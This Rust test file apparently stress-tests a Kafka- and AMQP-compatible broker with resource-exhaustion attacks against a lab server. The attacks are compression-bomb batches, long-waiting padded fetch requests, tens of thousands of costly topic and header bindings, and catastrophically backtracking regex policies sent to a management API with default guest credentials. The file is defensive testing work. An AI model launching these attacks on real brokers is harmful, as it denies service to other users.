//! The attacks. What each did to other clients before there were bounds is in docs/lab/security.md.

use crate::common::amqp::Amqp;
use crate::common::batch::bomb;
use crate::common::kafka::{Kafka, fetch_request};
use crate::victims::Stage;
use polylogue_amqp::codec::{Table, TableBuilder};
use polylogue_record::compress::Codec;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};

/// Bindings of an exchange before the client waits for them.
const BINDINGS_AT_ONCE: usize = 1_000;

#[test]
fn a_topic_compressed_at_the_highest_level() {
    let stage = Stage::new("level");
    let configs = [("compression.type", "zstd"), ("compression.zstd.level", "22")];
    stage.kafka().create_topic("dear", 8, &configs).unwrap();
    let bomb = bomb(Codec::Gzip, 100 << 20);
    assert!(bomb.len() < 110 << 10, "{} bytes", bomb.len());
    stage.attack((0..8).map(|partition| {
        let (mut kafka, bomb) = (stage.kafka(), bomb.clone());
        move || drop(kafka.produce("dear", partition, bomb.clone()))
    }));
}

#[test]
fn batches_that_decompress_to_much() {
    let stage = Stage::new("bombs");
    stage.kafka().create_topic("bombs", 4, &[]).unwrap();
    let bomb = bomb(Codec::Zstd, 120 << 20);
    assert!(bomb.len() < 16 << 10, "{} bytes", bomb.len());
    stage.attack((0..256).map(|_| {
        let (mut kafka, bomb) = (stage.kafka(), bomb.clone());
        move || {
            (0..4).for_each(|partition| _ = kafka.send_produce("bombs", partition, bomb.clone()));
            (0..4).for_each(|_| _ = kafka.receive_produced());
        }
    }));
}

#[test]
fn fetches_that_wait() {
    let stage = Stage::new("waiting");
    stage.kafka().create_topic("waited-for", 1, &[]).unwrap();
    // A frame of about 4 KB: a list takes many times its bytes when it is read, and none that waits needs that.
    let padded = |topic: &str| {
        let mut request = fetch_request(topic, 0, 0, 1 << 20);
        (request.max_wait_ms, request.min_bytes) = (30_000, 1);
        let template = request.topics[0].partitions[0].clone();
        request.topics[0].partitions = (0..120).map(|_| template.clone()).collect();
        request
    };
    let attacker = |_| {
        let mut kafka: Option<Kafka> = None;
        let (at, request) = (stage.server.kafka(), padded("waited-for"));
        move || {
            let kafka = kafka.get_or_insert_with(|| Kafka::connect(at).unwrap());
            (0..16).for_each(|_| drop(kafka.send(12, &request)));
            (0..16).for_each(|_| drop(kafka.receive::<polylogue_kafka_codec::fetch::FetchRequest>(12)));
        }
    };
    stage.attack((0..32).map(attacker));
}

/// An exchange with so many bindings.
fn bound(amqp: &mut Amqp, exchange: &str, kind: &str, queues: usize, bindings: impl Iterator<Item = (String, Table)>) {
    amqp.declare_exchange(exchange, kind).unwrap();
    (0..queues).for_each(|at| amqp.declare(&format!("{exchange}-{at}"), &[]).unwrap());
    for (at, (key, arguments)) in bindings.enumerate() {
        amqp.bind(exchange, &format!("{exchange}-{}", at % queues), &key, arguments);
        if at % BINDINGS_AT_ONCE == BINDINGS_AT_ONCE - 1 {
            amqp.settle().unwrap();
        }
    }
    amqp.settle().unwrap();
}

/// Publishes so many messages and waits until all are confirmed.
fn publisher(at: SocketAddr, exchange: &'static str, key: String, headers: Table, count: usize) -> impl FnMut() + Send {
    let mut amqp = Amqp::connect(at).unwrap();
    amqp.confirm().unwrap();
    move || {
        (0..count).for_each(|_| amqp.publish_with(exchange, &key, &headers, b"x"));
        let _ = amqp.confirmed(count);
    }
}

/// Words that all match `a`, in one of the ways in which that can be said.
fn all_match(at: usize, words: usize) -> String {
    let word = |word: usize| if at >> (word % 17) & 1 == 0 { "a" } else { "*" };
    (0..words).map(word).collect::<Vec<_>>().join(".")
}

#[test]
fn many_long_topic_bindings() {
    let stage = Stage::new("topics");
    let bindings = (0..10_000).map(|at| (all_match(at, 100), TableBuilder::new().build()));
    bound(&mut stage.amqp(), "long", "topic", 1, bindings);
    let (at, key) = (stage.server.amqp().unwrap(), "a.".repeat(99) + "a");
    stage.attack((0..2).map(|_| publisher(at, "long", key.clone(), TableBuilder::new().build(), 100)));
}

#[test]
fn many_topic_bindings_that_match_anything() {
    let stage = Stage::new("hashes");
    let bindings = (0..100_000).map(|at| (all_match(at, 17) + ".#.x", TableBuilder::new().build()));
    bound(&mut stage.amqp(), "hashes", "topic", 1, bindings);
    let (at, key) = (stage.server.amqp().unwrap(), "a.".repeat(99) + "a");
    stage.attack((0..2).map(|_| publisher(at, "hashes", key.clone(), TableBuilder::new().build(), 100)));
}

/// So many headers, of which the last one may differ.
fn pairs(count: usize, last: &str) -> TableBuilder {
    (0..count).fold(TableBuilder::new(), |table, at| {
        table.with_text(&format!("h{at}"), if at + 1 == count { last } else { "v" })
    })
}

#[test]
fn many_headers_bindings() {
    let stage = Stage::new("headers");
    let bindings = (0..10_000).map(|at| (String::new(), pairs(200, &format!("v{at}")).build()));
    bound(&mut stage.amqp(), "headers", "headers", 1, bindings);
    let at = stage.server.amqp().unwrap();
    stage.attack((0..2).map(|_| publisher(at, "headers", String::new(), pairs(200, "other").build(), 10)));
}

#[test]
fn messages_for_many_queues() {
    let stage = Stage::new("fanout");
    let bindings = (0..10_000).map(|_| (String::new(), TableBuilder::new().build()));
    bound(&mut stage.amqp(), "fan", "fanout", 10_000, bindings);
    let at = stage.server.amqp().unwrap();
    stage.attack((0..1).map(|_| publisher(at, "fan", String::new(), TableBuilder::new().build(), 100)));
}

/// Asks RabbitMQ's management API, and waits for the answer, or the end of the broker.
fn put(at: SocketAddr, path: &str, body: &str) {
    let Ok(mut stream) = TcpStream::connect(at) else { return };
    let head = "Authorization: Basic Z3Vlc3Q6Z3Vlc3Q=\r\nHost: localhost\r\nContent-Type: application/json\r\nConnection: close";
    let request = format!("PUT {path} HTTP/1.1\r\n{head}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    let mut answer = String::new();
    if stream.write_all(request.as_bytes()).and_then(|()| stream.read_to_string(&mut answer)).is_ok() {
        assert!(answer.is_empty() || answer.starts_with("HTTP/1.1 20"), "{answer}");
    }
}

#[test]
fn policies_whose_patterns_backtrack() {
    let stage = Stage::new("policies");
    let mut amqp = stage.amqp();
    (0..1_000).for_each(|at| amqp.declare(&format!("{}{at}", "a".repeat(100)), &[]).unwrap());
    let at = stage.server.management().unwrap();
    let mut round = 0;
    stage.attack([move || {
        round += 1;
        (0..6).for_each(|policy| {
            let pattern = format!("^(a+)+(?=b{round})b$");
            let body = format!(r#"{{"pattern":"{pattern}","definition":{{"max-length":{round}}}}}"#);
            put(at, &format!("/api/policies/%2F/p{policy}"), &body);
        });
    }]);
}

#[test]
fn nobody_attacks() {
    let stage = Stage::new("quiet");
    stage.attack(std::iter::empty::<fn()>());
}
